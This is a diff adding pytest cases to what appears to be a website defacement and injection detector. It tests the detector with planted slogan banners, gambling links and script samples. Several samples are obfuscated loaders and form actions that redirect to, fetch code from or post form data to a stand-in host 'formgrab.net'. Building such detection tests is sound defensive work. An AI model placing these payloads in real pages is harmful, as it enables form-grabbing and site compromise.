@@ -24,6 +24,14 @@ def keys(outcome):
         (replaced, "<script>document.body.innerHTML='<img src=/up/x.jpg>'</script>", "wiped"),
         (replaced, "<h1>还我血汗钱</h1>", "heading"),
         (replaced, '<marquee><font size="6">还我血汗钱</font></marquee>', "heading"),
+        (replaced, '<div style="font-size:60px;color:red">打倒贪官污吏 还我血汗钱</div>', "heading"),
+        (replaced, '<p style="FONT-SIZE: 48pt">某某书记贪污受贿无人管</p>', "heading"),
+        (replaced, '<div style="font:bold 5em/1 serif">Free us all! Stop it</div>', "heading"),
+        (replaced, "<style>.a,#k{color:red;font-size:60px}</style><div id=k>还我血汗钱</div>", "heading"),
+        (injected, "<script>window['loc'+'ation']['hr'+'ef']='//x.formgrab.net'</script>", "loader"),
+        (injected, "<script>s.src='//'+['x','formgrab','net'].join('.')+'/a.js'</script>", "loader"),
+        (injected, '<script type="importmap">{"imports":{"a":"https://x.formgrab.net/a.js"}}</script>', "loader"),
+        (injected, '<a href="http://www.aomen88.com/">百家乐开户</a>', "advert"),
         (title, "<script>document.title='欧亿注册'</script>", "scripted"),
         (injected, '<form><button formaction="http://grab.formgrab.net/p">x</button></form>', "form"),
         (injected, "<button onclick=\"this.form.action='http://grab.formgrab.net/p'\">x</button>", "loader"),
@@ -60,6 +68,12 @@ def test_what_a_defacer_adds_is_asked_about(compared, made, check, added, key):
         '<a href="/upload/2026/biao.zip">下载</a><a href="http://www.partner.com/a.zip">下载</a>',
         '<a href="https://zwfw.sd.gov.cn/">政务服务</a><a href="http://www.partner.com/">合作单位</a>',
         '<div style="display:none">您访问的链接即将离开本网站</div>',
+        '<div style="font-size:60px">热烈庆祝教师节</div><p style="font-size:16px">打倒贪官污吏</p>',
+        '<div style="display:none;font-size:60px">同胞们觉醒吧</div>',
+        '<div style="font-size:60px"><a href="/art/9.html">同胞们觉醒吧</a></div>',
+        "<style>.k{font-size:60px}</style>",
+        "<script>var a=['b','c'];a['d']='//www.partner.com/'</script>",
+        '<script type="importmap">{"imports":{"a":"/js/a.js"}}</script>',
     ],
 )
 def test_what_ordinary_updates_add_is_left_alone(compared, made, check, added):
@@ -129,3 +143,37 @@ def test_a_slogan_in_another_slogans_place_is_left_alone(compared, made):
     slogan = "<marquee>{}</marquee>".format
     before = made.page(body=slogan("热烈庆祝教师节"))
     assert compared(replaced, made.page(9, body=slogan("欢迎新同学到来")), before).status is Status.PASS
+
+
+def test_a_picture_from_elsewhere_behind_the_page_is_asked_about(compared, made):
+    now = made.page(9).replace("<body>", '<body style="background: url(&quot;http://x.formgrab.net/h.jpg&quot;)">')
+    assert keys(compared(injected, now)) == ["banner"]
+
+
+def test_a_picture_of_the_sites_own_behind_the_page_is_left_alone(compared, made):
+    now = made.page(9).replace("<body>", "<body style=\"background:url('/images/spring.jpg')\">")
+    assert compared(injected, now).status is Status.PASS
+
+
+def test_large_words_in_place_of_others_that_a_style_made_large_are_left_alone(compared, made):
+    banner = '<div style="font-size:60px">{}</div>'.format
+    assert (
+        compared(replaced, made.page(9, body=banner("同心同德再出发")), made.page(body=banner("江山如画"))).findings
+        == ()
+    )
+
+
+def headlines(words):
+    return [words.format(at) for at in range(12)]
+
+
+@pytest.mark.parametrize("words", ["打倒某某者{}号公告", "请看某某人做的好事{}"])
+def test_headlines_that_differ_by_a_number_are_asked_about(compared, made, words):
+    rows = "".join(f'<p><a href="/x/{at}.html">{one}</a></p>' for at, one in enumerate(headlines(words)))
+    assert "series" in keys(compared(replaced, made.page(9, body=rows)))
+
+
+@pytest.mark.parametrize("words", ["示例县教育局招聘公示第{}批", "今日水情{}"])
+def test_such_headlines_as_offices_write_are_left_alone(compared, made, words):
+    rows = "".join(f'<p><a href="/x/{at}.html">{one}</a></p>' for at, one in enumerate(headlines(words)))
+    assert "series" not in keys(compared(replaced, made.page(9, body=rows)))
